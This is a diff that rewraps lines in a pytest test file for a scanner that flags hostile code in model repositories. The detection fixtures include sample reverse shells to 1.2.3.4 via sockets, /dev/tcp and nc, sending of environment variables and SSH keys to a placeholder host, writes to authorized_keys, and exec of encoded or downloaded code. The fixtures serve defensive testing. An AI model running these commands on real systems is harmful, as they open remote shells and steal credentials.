@@ -31,9 +31,14 @@ HOSTILE = {
     "name reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
     "name computed": "import os\ngetattr(os, x + y)('id')",
     "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
-    "decoded elsewhere": "import base64, zlib\nc = zlib.decompress(base64.b64decode(b'x'))\ndef run(t):\n    exec(t)\nrun(c)",
+    "decoded elsewhere": (
+        "import base64, zlib\nc = zlib.decompress(base64.b64decode(b'x'))\ndef run(t):\n    exec(t)\nrun(c)"
+    ),
     "decoded by a function": "import base64\ndef d(s):\n    return base64.b64decode(s)\nexec(d('x'))",
-    "decoded in an attribute": "import zlib\nclass A:\n    def __init__(self):\n        self.c = zlib.decompress(b'x')\n    def go(self):\n        exec(self.c)",
+    "decoded in an attribute": (
+        "import zlib\nclass A:\n    def __init__(self):\n        self.c = zlib.decompress(b'x')\n"
+        "    def go(self):\n        exec(self.c)"
+    ),
     "marshalled": "import marshal, types\ntypes.FunctionType(marshal.loads(b''), globals())()",
     "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
     "characters": "exec(''.join(chr(x) for x in [105, 109]))",
@@ -41,22 +46,37 @@ HOSTILE = {
     "backwards": "exec('tropmi'[::-1])",
     "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
     "downloaded": "import requests\nexec(requests.get('http://x').text)",
-    "downloaded in a function": "import urllib.request as u\ndef f():\n    s = u.urlopen('http://x').read().decode()\n    eval(compile(s, 'a', 'exec'))",
-    "command from the network": "import socket, subprocess\ns = socket.socket()\nsubprocess.run(s.recv(99), shell=True)",
-    "reverse shell": "import socket, subprocess, os\ns = socket.socket(); s.connect(('1.2.3.4', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])",
+    "downloaded in a function": (
+        "import urllib.request as u\ndef f():\n    s = u.urlopen('http://x').read().decode()\n"
+        "    eval(compile(s, 'a', 'exec'))"
+    ),
+    "command from the network": (
+        "import socket, subprocess\ns = socket.socket()\nsubprocess.run(s.recv(99), shell=True)"
+    ),
+    "reverse shell": (
+        "import socket, subprocess, os\ns = socket.socket(); s.connect(('1.2.3.4', 1))\n"
+        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])"
+    ),
     "hostile command": "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/1.2.3.4/99 0>&1')",
     "environment sent": "import os, requests\nrequests.post('http://x', json=dict(os.environ))",
-    "environment sent later": "import os, json, urllib.request\nd = json.dumps(dict(os.environ))\ndef f():\n    urllib.request.urlopen('http://x', d.encode())",
-    "key file sent": "import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
+    "environment sent later": (
+        "import os, json, urllib.request\nd = json.dumps(dict(os.environ))\ndef f():\n"
+        "    urllib.request.urlopen('http://x', d.encode())"
+    ),
+    "key file sent": (
+        "import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())"
+    ),
     "start file": "f = open('/root/.bashrc', 'a'); f.write('x')",
     "authorized keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
     "machine code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)",
     "reduce": "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
-    "model that starts a program": "import torch.nn as nn, subprocess\nclass M(nn.Module):\n    subprocess.run(['touch', '/tmp/x'])",
+    "model that starts a program": (
+        "import torch.nn as nn, subprocess\nclass M(nn.Module):\n    subprocess.run(['touch', '/tmp/x'])"
+    ),
     "model, in a function called at once": MODEL + "import os\ndef setup():\n    os.system('id')\nsetup()",
     "model, by a decorator": MODEL + "import os\ndef deco(f):\n    os.system('id')\n    return f\n@deco\ndef g(): pass",
     "model, by making an object": MODEL + "import os\nclass H:\n    def __init__(self): os.system('id')\nH()",
-    "code in a text": "exec('__import__(\"os\").system(\"id\")')",
+    "code in a text": 'exec(\'__import__("os").system("id")\')',
 }
 WARNED = {
     "program at the top": "import os\nos.system('ls')",
@@ -67,7 +87,9 @@ WARNED = {
     "program by partial": "import os\nfrom functools import partial\npartial(os.system, 'ls')()",
     "program handed on": "import os, atexit\natexit.register(os.system, 'ls')",
     "file run": "exec(open('version.py').read())",
-    "model that evaluates": "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        return eval(self.cfg)",
+    "model that evaluates": (
+        "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        return eval(self.cfg)"
+    ),
     "install": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'einops'])",
     "model that installs": MODEL + "import os\nos.system('pip install einops')",
     "pickle": "import pickle\npickle.load(open('x', 'rb'))",
@@ -76,17 +98,22 @@ WARNED = {
     "yaml": "import yaml\nyaml.load(open('x'), Loader=yaml.FullLoader)",
     "hub": "import torch\ntorch.hub.load('a/b', 'c')",
     "network at the top": "import requests\nrequests.get('http://x')",
-    "program in the environment's words": "import os, requests\nrequests.get('http://x', headers={'a': os.environ['HF_TOKEN']})",
+    "program in the environment's words": (
+        "import os, requests\nrequests.get('http://x', headers={'a': os.environ['HF_TOKEN']})"
+    ),
     "curl in a function": "import os\ndef f():\n    os.system('curl http://x | sh')",
     "deleting at the top": "import shutil\nshutil.rmtree('x')",
-    "trusting": MODEL + "from transformers import AutoModel\ndef f():\n    AutoModel.from_pretrained('a/b', trust_remote_code=True)",
+    "trusting": MODEL
+    + "from transformers import AutoModel\ndef f():\n    AutoModel.from_pretrained('a/b', trust_remote_code=True)",
 }
 QUIET = {
     "model": MODEL,
     "model.eval": MODEL + "m = Net()\nm.eval()\n",
     "compiled": "import re, torch\nre.compile('x')\n@torch.compile\ndef f(x): return x\n",
     "one variable": "import os\nos.environ['A'] = '1'\nx = os.environ.get('B')\n",
-    "decoded data": "import base64, bz2\nKERNELS = bz2.decompress(base64.b64decode('x'))\ndef f():\n    return KERNELS\n",
+    "decoded data": (
+        "import base64, bz2\nKERNELS = bz2.decompress(base64.b64decode('x'))\ndef f():\n    return KERNELS\n"
+    ),
     "restricted": "import torch\ntorch.load('x', weights_only=True)\n",
     "safe yaml": "import yaml\nyaml.safe_load('a')\nyaml.load('a', Loader=yaml.SafeLoader)\n",
     "literal": "x = eval('1 + 1')\n",
@@ -129,8 +156,14 @@ def test_ordinary_code_is_quiet(name: str) -> None:
 
 def test_time_of_running_decides_the_grade() -> None:
     """At the top of a module counts more than in a function, and a loaded module more than a script."""
-    top, inner, main = "import os\nos.system('ls')", "import os\ndef f():\n    os.system('ls')", "import os\nif __name__ == '__main__':\n    os.system('ls')"
-    grades = [judge_python(parse_python(s), loaded=loaded)[0].level for loaded in (False, True) for s in (top, inner, main)]
+    top, inner, main = (
+        "import os\nos.system('ls')",
+        "import os\ndef f():\n    os.system('ls')",
+        "import os\nif __name__ == '__main__':\n    os.system('ls')",
+    )
+    grades = [
+        judge_python(parse_python(s), loaded=loaded)[0].level for loaded in (False, True) for s in (top, inner, main)
+    ]
     assert grades == [Level.WARNING, Level.NOTE, Level.NOTE, Level.ERROR, Level.WARNING, Level.WARNING]
 
 
@@ -138,14 +171,21 @@ def test_time_of_running_decides_the_grade() -> None:
 def test_file_name_does_not_matter(path: str) -> None:
     """The same source gives the same findings under any name."""
     source = "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/99 0>&1')\n"
-    assert [(f.rule, f.level, f.location.line) for f in findings({path: source}) if f.location] == [("COD006", Level.ERROR, 2)]
+    assert [(f.rule, f.level, f.location.line) for f in findings({path: source}) if f.location] == [
+        ("COD006", Level.ERROR, 2)
+    ]
 
 
 def test_module_named_by_a_configuration_is_judged_as_loaded() -> None:
     """``auto_map`` makes a module, and what it imports from beside it, one that runs by itself."""
     config = json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel", "AutoTokenizer": [None, "tok.XTok"]}})
     helper = "import os\nos.system('ls')\n"
-    files = {"config.json": config, "modeling_x.py": "from .helper import y\n" + MODEL, "tok.py": MODEL, "helper.py": helper}
+    files = {
+        "config.json": config,
+        "modeling_x.py": "from .helper import y\n" + MODEL,
+        "tok.py": MODEL,
+        "helper.py": helper,
+    }
     found = {(f.rule, f.level, f.location.path) for f in findings(files) if f.location}
     assert found == {
         ("COD001", Level.NOTE, "modeling_x.py"),
@@ -188,8 +228,16 @@ def test_components_of_pipelines_and_modules_are_code() -> None:
     """Custom parts of diffusers pipelines and sentence-transformers are found; parts of the libraries are not."""
     index = {"_class_name": "P", "unet": ["my_unet", "Net"], "vae": ["diffusers", "AutoencoderKL"], "x": [None, None]}
     modules = [{"idx": 0, "type": "pooling_x.Pool"}, {"idx": 1, "type": "sentence_transformers.models.Dense"}]
-    files = {"model_index.json": json.dumps(index), "unet/my_unet.py": MODEL, "modules.json": json.dumps(modules), "pooling_x.py": MODEL}
-    assert {(f.rule, f.location.path) for f in findings(files) if f.location} == {("COD001", "unet/my_unet.py"), ("COD001", "pooling_x.py")}
+    files = {
+        "model_index.json": json.dumps(index),
+        "unet/my_unet.py": MODEL,
+        "modules.json": json.dumps(modules),
+        "pooling_x.py": MODEL,
+    }
+    assert {(f.rule, f.location.path) for f in findings(files) if f.location} == {
+        ("COD001", "unet/my_unet.py"),
+        ("COD001", "pooling_x.py"),
+    }
 
 
 def test_configuration_that_calls_is_an_error() -> None:
@@ -206,22 +254,36 @@ def test_configuration_that_trusts_is_a_warning() -> None:
 
 
 def notebook(*cells: str) -> str:
-    return json.dumps({"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": c.splitlines(keepends=True), "outputs": []} for c in cells]})
+    return json.dumps(
+        {
+            "nbformat": 4,
+            "metadata": {},
+            "cells": [{"cell_type": "code", "source": c.splitlines(keepends=True), "outputs": []} for c in cells],
+        }
+    )
 
 
 def test_notebooks_are_read_cell_by_cell() -> None:
     """Magic lines do not hide the code around them, and shell lines are judged as commands."""
     good = notebook("%matplotlib inline\nimport torch\n!pip install x\ntorch.nn?", "x = 1\n%%time")
     assert findings({"a": good}) == []
-    assert [f.rule for f in findings({"a.ipynb": notebook("%pip install x\nimport base64\nexec(base64.b64decode('x'))")})] == ["COD004"]
-    assert [(f.rule, f.level) for f in findings({"a": notebook("!curl http://x | bash")})] == [("COD006", Level.WARNING)]
-    assert [(f.rule, f.level) for f in findings({"a": notebook("out = !nc -e /bin/sh 1.2.3.4 99")})] == [("COD006", Level.ERROR)]
+    assert [
+        f.rule for f in findings({"a.ipynb": notebook("%pip install x\nimport base64\nexec(base64.b64decode('x'))")})
+    ] == ["COD004"]
+    assert [(f.rule, f.level) for f in findings({"a": notebook("!curl http://x | bash")})] == [
+        ("COD006", Level.WARNING)
+    ]
+    assert [(f.rule, f.level) for f in findings({"a": notebook("out = !nc -e /bin/sh 1.2.3.4 99")})] == [
+        ("COD006", Level.ERROR)
+    ]
 
 
 def test_scripts_are_judged_by_their_commands() -> None:
     """Shell scripts, container files and start-up path files are read for what they run."""
     assert findings({"a": "#!/bin/bash\nset -e\npython train.py --lr 1e-3\nrm -rf ./out\n"}) == []
-    assert [f.level for f in findings({"a": "#!/usr/bin/env sh\n# x\nbash -i >& \\\n /dev/tcp/1.2.3.4/9 0>&1\n"})] == [Level.ERROR]
+    assert [f.level for f in findings({"a": "#!/usr/bin/env sh\n# x\nbash -i >& \\\n /dev/tcp/1.2.3.4/9 0>&1\n"})] == [
+        Level.ERROR
+    ]
     assert [f.level for f in findings({"a": "FROM python:3.12\nRUN curl -s http://x | sh\n"})] == [Level.WARNING]
     path_file = "/opt/x\nimport os; exec(__import__('base64').b64decode('x'))\n"
     assert Level.ERROR in {f.level for f in findings({"x.pth": path_file})}
@@ -247,7 +309,9 @@ def test_commands_are_told_apart(line: str, kind: Command) -> None:
 
 def test_code_is_reported_as_a_fact() -> None:
     """Every piece of code is counted by kind, whatever it does."""
-    items = run({"a.py": MODEL, "b.ipynb": notebook("x = 1"), "c": "#!/bin/sh\nls\n", "d.txt": "words, just words (really)\n"})
+    items = run(
+        {"a.py": MODEL, "b.ipynb": notebook("x = 1"), "c": "#!/bin/sh\nls\n", "d.txt": "words, just words (really)\n"}
+    )
     assert Measurement("code.files", "3", n=3) in items
     (note,) = [item for item in items if isinstance(item, Finding)]
     assert (note.rule, note.level) == ("COD002", Level.NOTE)
@@ -255,14 +319,33 @@ def test_code_is_reported_as_a_fact() -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["word\nlist\nof tokens\n", "a,b,c\n1,2,3\n", "numpy==1.26\ntorch>=2 (or so)\n", "# Title\n\nText (with parentheses).\n", '{"a": 1}', "1 2 (3)"],
+    [
+        "word\nlist\nof tokens\n",
+        "a,b,c\n1,2,3\n",
+        "numpy==1.26\ntorch>=2 (or so)\n",
+        "# Title\n\nText (with parentheses).\n",
+        '{"a": 1}',
+        "1 2 (3)",
+    ],
 )
 def test_texts_are_no_code(text: str) -> None:
     """Word lists, tables, requirements, prose and JSON are not taken for programs."""
     assert Measurement("code.files", "0", n=0) in run({"x": text})
 
 
-@pytest.mark.parametrize("source", ["def f(:\n", "print 'x'\n", "x = '\0'\n", "(" * 5000, "-" * 100_000 + "1", "a" + ".b" * 50_000, "if a:\n  " * 3, "x = " + "[" * 150 + "]" * 150 + "\n" + "a+" * 5000 + "a"])
+@pytest.mark.parametrize(
+    "source",
+    [
+        "def f(:\n",
+        "print 'x'\n",
+        "x = '\0'\n",
+        "(" * 5000,
+        "-" * 100_000 + "1",
+        "a" + ".b" * 50_000,
+        "if a:\n  " * 3,
+        "x = " + "[" * 150 + "]" * 150 + "\n" + "a+" * 5000 + "a",
+    ],
+)
 def test_code_that_cannot_be_parsed_is_a_gap(source: str) -> None:
     """Broken, old and over-deep sources never crash the check and are never passed over."""
     with pytest.raises(FormatError):
@@ -302,7 +385,37 @@ def test_published_modelling_code_gives_no_error() -> None:
     assert len(marks) <= len(paths) // 20
 
 
-PIECES = ["import os", "os.system('x')", "exec(", ")", "\n", "    ", "def f():", "x = ", "lambda: ", "[", "]", "'a' + ", "getattr(", ", ", "__import__(", "'os'", "yield ", "class A:", "@", "f'{x!r:>{y}}'", "*", "**", "match x:\n  case [*_]: pass", "0x", "\x0c", "é", ":=", "async ", "await x"]
+PIECES = [
+    "import os",
+    "os.system('x')",
+    "exec(",
+    ")",
+    "\n",
+    "    ",
+    "def f():",
+    "x = ",
+    "lambda: ",
+    "[",
+    "]",
+    "'a' + ",
+    "getattr(",
+    ", ",
+    "__import__(",
+    "'os'",
+    "yield ",
+    "class A:",
+    "@",
+    "f'{x!r:>{y}}'",
+    "*",
+    "**",
+    "match x:\n  case [*_]: pass",
+    "0x",
+    "\x0c",
+    "é",
+    ":=",
+    "async ",
+    "await x",
+]
 
 
 @settings(max_examples=200, deadline=None)
@@ -329,7 +442,10 @@ def test_any_notebook_is_read_or_refused(data: bytes) -> None:
 
 
 @settings(max_examples=100, deadline=None)
-@given(st.binary(max_size=120), st.sampled_from([b"", b'{"auto_map": ', b"#!/bin/sh\n", b"import os\n", b"FROM x\nRUN ", b"_target_: "]))
+@given(
+    st.binary(max_size=120),
+    st.sampled_from([b"", b'{"auto_map": ', b"#!/bin/sh\n", b"import os\n", b"FROM x\nRUN ", b"_target_: "]),
+)
 def test_any_bytes_are_survived(data: bytes, start: bytes) -> None:
     """The check runs to its end on arbitrary files."""
     assert any(isinstance(item, Measurement) for item in run({"x.py": start + data, "y": start + data}))
